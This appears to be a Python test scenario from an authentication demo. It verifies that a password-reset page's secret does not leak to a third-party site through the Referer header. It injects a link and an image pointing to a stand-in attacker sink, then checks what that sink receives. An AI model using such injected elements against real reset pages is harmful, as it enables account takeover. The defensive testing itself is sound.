"""The reset secret leaking to a third party through `Referer`.

Threat: the reset page's URL carries the single-use secret (`/password/change/{id}`). If that page
links to, or loads something from, another site (a help link, an analytics image, a font), the
browser may tell that site where the request came from -- the full URL under a lax referrer
policy -- and whoever runs it can reset the victim's password before the victim does.
The victim asks for a reset, opens the email from the demo inbox in Chromium, and is on the reset
page; the scenario then puts a link and an image to the attacker's site into that page (as a
careless template would) and follows the link.
Stolen: the secret, if the attacker's site receives it in `Referer`.
What stops it: the reset page (like every hosted page) sends `Referrer-Policy: no-referrer` (and
the same `<meta name="referrer">`), so the followed link carries no `Referer` at all; and its
`Content-Security-Policy: default-src 'none'` keeps it from loading anything from anyone, so the
image is never fetched. (Chromium's own default, `strict-origin-when-cross-origin`, would send
the IdP's origin only; older browsers and lax site policies send the whole URL.)
"""
from __future__ import annotations

import json

from authgate_demo.attacks.lifecycle import reset_links
from authgate_demo.attacks.matrix import Cell, blocked, not_run, succeeded
from authgate_demo.attacks.scenarios.lifecycle import heading, link_evidence

ID = "l2-reset-token-referer"
TITLE = "Reset secret leaking to a third-party site through Referer (link and image on the reset page)"


async def run(ctx) -> Cell:  # type: ignore[no-untyped-def]
    victim = await ctx.victim()
    evidence = [f"victim {victim.email}"]
    page = await ctx.new_page()
    await ctx.forgot_in_browser(page, victim.email)
    mails = await ctx.mails(victim.email)
    if not mails:
        return not_run("the victim's reset email did not arrive")
    url = reset_links(mails[-1])[0]
    secret = url.split("/password/change/")[1].split("?")[0]
    answer = await ctx.open_from_inbox(page, url)
    evidence.append(f"victim opened {link_evidence(url)} from the inbox: {answer.status} '{await heading(page)}'")
    policy = (await answer.all_headers()).get("referrer-policy", "(none)")
    csp = (await answer.all_headers()).get("content-security-policy", "(none)")
    evidence.append(f"reset page headers: Referrer-Policy: {policy}; Content-Security-Policy starts "
                    f"'{csp.split(';')[0]}'")
    blocked_loads: list[str] = []
    page.on("console", lambda m: blocked_loads.append(m.text) if "Content Security Policy" in m.text else None)
    link, image = ctx.sink.visit_url(ID + "-link"), ctx.sink.visit_url(ID + "-image")
    await page.evaluate("""([link, image]) => {
        const a = document.createElement('a'); a.href = link; a.id = 'third-party'; a.textContent = 'Help';
        const img = document.createElement('img'); img.src = image; img.alt = '';
        document.body.append(a, img);
    }""", [link, image])
    await page.wait_for_timeout(500)
    await page.click("#third-party")
    await page.wait_for_load_state()
    got = await ctx.sink.wait_for(ID + "-link", 10)
    images = ctx.sink.received(ID + "-image")
    referers = [hit.get("referer") for hit in got + images]
    evidence.append(f"attacker's site: {len(got)} visit(s) from the link, {len(images)} image fetch(es); "
                    f"Referer received: {json.dumps(referers)}")
    if blocked_loads:
        evidence.append("Chromium: " + blocked_loads[0][:200])
    if not got:
        return not_run("the injected link did not reach the attacker's site: " + "; ".join(evidence))
    leaked = [r for r in referers if r and secret in r]
    if leaked:
        return succeeded(stolen="the reset secret, in the Referer the attacker's site received",
                         usable_for="until the victim uses the link, or it expires",
                         mitigation="Referrer-Policy: no-referrer on the reset page; load nothing third-party",
                         evidence=evidence)
    return blocked("Referrer-Policy: no-referrer (no Referer sent at all); CSP default-src 'none' "
                   "(the third-party image is never fetched)", evidence)
